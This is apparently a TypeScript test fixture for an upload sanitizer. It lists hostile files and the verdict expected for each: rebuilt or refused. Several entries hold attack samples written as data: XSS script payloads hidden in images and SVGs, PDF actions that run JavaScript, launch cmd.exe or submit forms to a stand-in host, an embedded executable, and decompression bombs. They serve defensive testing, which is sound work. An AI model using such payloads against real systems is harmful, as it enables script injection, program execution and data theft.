import { gzipSync } from 'node:zlib';
import { pdf, pdfBomb, pdfWithPackedScript, stream } from './hostilePdfs.ts';
import * as pictures from './hostilePictures.ts';

/** What becomes of a file: it is refused under this id, or made anew as this. Written by hand, from docs/decisions/attachments.md. */
type Verdict =
  | { refused: 'empty' | 'unsupported' | 'damaged' | 'too-many-pixels' | 'encrypted' | 'active' | 'too-large' }
  | { made: string; width?: number; height?: number };

/** A file that an attacker or a phone sends. */
export interface HostileFile {
  is: string;
  /** What it calls itself. */
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  verdict: Verdict;
}

const text = (value: string) => () => Buffer.from(value);
const followedBy = (one: () => Buffer | Promise<Buffer>, more: string) => async () =>
  Buffer.concat([await one(), Buffer.from(more)]);
const cut = (one: () => Promise<Buffer>, share: number) => async () => {
  const bytes = await one();
  return bytes.subarray(0, Math.floor(bytes.length * share));
};
/** The first box of a file of the ISO family (ISO/IEC 14496-12, 4.3). */
const boxed = (brand: string) => () => Buffer.from(`\0\0\0\x18ftyp${brand}\0\0\0\0mif1${brand}`, 'latin1');

const script = '<script>alert(document.domain)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${script}</svg>`;
const action = (entries: string) => pdf({ catalog: `/OpenAction << /Type /Action ${entries} >>` });

const refused = (refusal: Extract<Verdict, { refused: string }>['refused']): Verdict => ({ refused: refusal });
const jpeg: Verdict = { made: 'image/jpeg', width: 40, height: 20 };
const png: Verdict = { made: 'image/png', width: 40, height: 20 };
const pdfMade: Verdict = { made: 'application/pdf' };

const table: [is: string, name: string, bytes: HostileFile['bytes'], verdict: Verdict][] = [
  // Pictures with something in them, or behind them: made anew, it is gone.
  ['JPEG with a place', 'IMG_0001.jpg', pictures.jpegWithPlace, jpeg],
  ['JPEG on its side', 'portrait.jpg', pictures.jpegOnItsSide, { made: 'image/jpeg', width: 20, height: 40 }],
  ['JPEG with a color profile', 'p3.jpg', pictures.jpegWithProfile, jpeg],
  ['JPEG with HTML in a comment', 'a.jpg', () => pictures.jpegWith(0xfe, Buffer.from(script)), jpeg],
  ['JPEG with a program behind it', 'a.jpg', followedBy(pictures.jpeg, 'PK\x03\x04SecretProgram'), jpeg],
  ['JPEG called HTML', 'page.html', pictures.jpeg, jpeg],
  ['PNG with HTML behind it', 'a.png', followedBy(pictures.png, script), png],
  ['PNG with text', 'a.png', () => pictures.pngWith('tEXt', Buffer.from(`Comment\0${script}`)), png],
  ['PNG with EXIF', 'a.png', () => pictures.pngWith('eXIf', Buffer.from('MM\0*\0\0\0\x08\0\0SecretCamera')), png],
  ['WebP with XMP', 'a.webp', pictures.webpWithXmp, { made: 'image/webp', width: 40, height: 20 }],
  ['GIF that is a script too', 'a.gif', pictures.gifScript, png],
  ['GIF that moves', 'a.gif', pictures.animatedGif, { made: 'image/png', width: 10, height: 10 }],
  ['a plain PDF', 'quote.pdf', () => pdf(), pdfMade],
  ['PDF with HTML behind it', 'a.pdf', followedBy(() => pdf(), script), pdfMade],
  [
    'PDF that names its author',
    'a.pdf',
    () => pdf({ more: ['<< /Author (SecretCamera) >>'], trailer: '/Info 4 0 R' }),
    pdfMade,
  ],
  [
    'PDF with XMP',
    'a.pdf',
    () =>
      pdf({
        catalog: '/Metadata 4 0 R',
        more: [stream('/Type /Metadata /Subtype /XML', Buffer.from('<x>SecretCamera</x>'))],
      }),
    pdfMade,
  ],
  [
    'PDF with a photo with a place',
    'scan.pdf',
    async () =>
      pdf({
        page: '/Resources << /XObject << /I 4 0 R >> >>',
        more: [
          stream(
            '/Type /XObject /Subtype /Image /Filter /DCTDecode /Width 40 /Height 20',
            await pictures.jpegWithPlace(),
          ),
        ],
      }),
    pdfMade,
  ],
  // What a browser could run.
  ['SVG with a script', 'a.svg', text(svg), refused('unsupported')],
  ['SVG called PNG', 'a.png', text(svg), refused('unsupported')],
  ['SVG with a declaration', 'a.png', text(`\ufeff<?xml version="1.0"?>${svg}`), refused('unsupported')],
  ['SVG, compressed', 'a.svgz', () => gzipSync(svg), refused('unsupported')],
  ['HTML called JPEG', 'a.jpg', text(`<!doctype html>${script}`), refused('unsupported')],
  ['HTML with a PDF in it', 'a.pdf', followedBy(text(script), pdf().toString('latin1')), refused('unsupported')],
  ['a script', 'a.gif', text('alert(document.domain)'), refused('unsupported')],
  // PDFs that do something.
  ['PDF: script when opened', 'a.pdf', () => action('/S /JavaScript /JS (app.alert\\(1\\))'), refused('active')],
  ['PDF: script in a compressed object', 'a.pdf', pdfWithPackedScript, refused('active')],
  ['PDF: script under another spelling', 'a.pdf', () => action('/S /Java#53cript /J#53 (1)'), refused('active')],
  [
    'PDF: script among its names',
    'a.pdf',
    () => pdf({ catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', more: ['<< /S /JavaScript /JS (1) >>'] }),
    refused('active'),
  ],
  ['PDF: opens an address by itself', 'a.pdf', () => action('/S /URI /URI (http://evil.example)'), refused('active')],
  ['PDF: starts a program', 'a.pdf', () => action('/S /Launch /F (cmd.exe)'), refused('active')],
  [
    'PDF: a program behind a link',
    'a.pdf',
    () => pdf({ page: '/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (cmd.exe) >> >>]' }),
    refused('active'),
  ],
  ['PDF: when a page is shown', 'a.pdf', () => pdf({ page: '/AA << /O << /S /Launch >> >>' }), refused('active')],
  ['PDF: a second action', 'a.pdf', () => action('/S /GoTo /D [3 0 R /Fit] /Next << /S /Launch >>'), refused('active')],
  ['PDF: sends a form away', 'a.pdf', () => action('/S /SubmitForm /F (http://evil.example)'), refused('active')],
  [
    'PDF with a file in it',
    'a.pdf',
    () =>
      pdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
        more: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', stream('/Type /EmbeddedFile', Buffer.from('MZ'))],
      }),
    refused('active'),
  ],
  ['PDF: XFA form', 'a.pdf', () => pdf({ catalog: '/AcroForm << /Fields [] /XFA (x) >>' }), refused('active')],
  ['PDF: film', 'a.pdf', () => pdf({ page: '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]' }), refused('active')],
  [
    'PDF: protected',
    'a.pdf',
    () =>
      pdf({
        more: ['<< /Filter /Standard /V 1 /R 2 /O (0123) /U (0123) /P -4 >>'],
        trailer: '/Encrypt 4 0 R /ID [<00> <00>]',
      }),
    refused('encrypted'),
  ],
  ['PDF: only its beginning', 'a.pdf', text('%PDF-1.7\n'), refused('damaged')],
  // Bombs.
  ['PDF that unpacks to a gigabyte', 'a.pdf', pdfBomb, refused('damaged')],
  ['PNG of 50,000 × 50,000', 'a.png', () => pictures.encodePng(50_000, 50_000), refused('too-many-pixels')],
  ['GIF of 65,535 × 65,535', 'a.gif', pictures.gifBomb, refused('too-many-pixels')],
  ['PNG that holds less than it says', 'a.png', () => pictures.encodePng(5000, 5000), refused('damaged')],
  // Damaged, empty, too large.
  ['JPEG cut off', 'a.jpg', cut(pictures.jpegWithPlace, 0.8), refused('damaged')],
  ['JPEG: only its beginning', 'a.jpg', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0]), refused('damaged')],
  ['nothing', 'a.jpg', () => Buffer.alloc(0), refused('empty')],
  ['10 MB and a byte', 'a.jpg', () => Buffer.alloc(10 * 1024 * 1024 + 1, 0xff), refused('too-large')],
  // Other formats.
  ['a ZIP called PDF', 'a.pdf', text('PK\x03\x04%PDF-1.7'), refused('unsupported')],
  ['HEIC', 'IMG_0001.heic', boxed('heic'), refused('unsupported')],
  ['AVIF', 'a.avif', pictures.avif, refused('unsupported')],
  ['TIFF', 'a.tiff', pictures.tiff, refused('unsupported')],
  ['BMP', 'a.bmp', text('BM\x1e\0\0\0'), refused('unsupported')],
  ['ICO', 'a.ico', text('\0\0\x01\0\x01\0'), refused('unsupported')],
  ['MP4', 'a.mp4', boxed('isom'), refused('unsupported')],
  ['a program', 'a.jpg', text('MZ\x90\0'), refused('unsupported')],
];

export const hostileFiles: HostileFile[] = table.map(([is, name, bytes, verdict]) => ({ is, name, bytes, verdict }));

/** What none of them may hold when it comes out. */
export const secrets = ['SecretCamera', 'Ada Byron', 'SecretProgram', '<script', 'alert(', 'Exif', 'evil.example'];
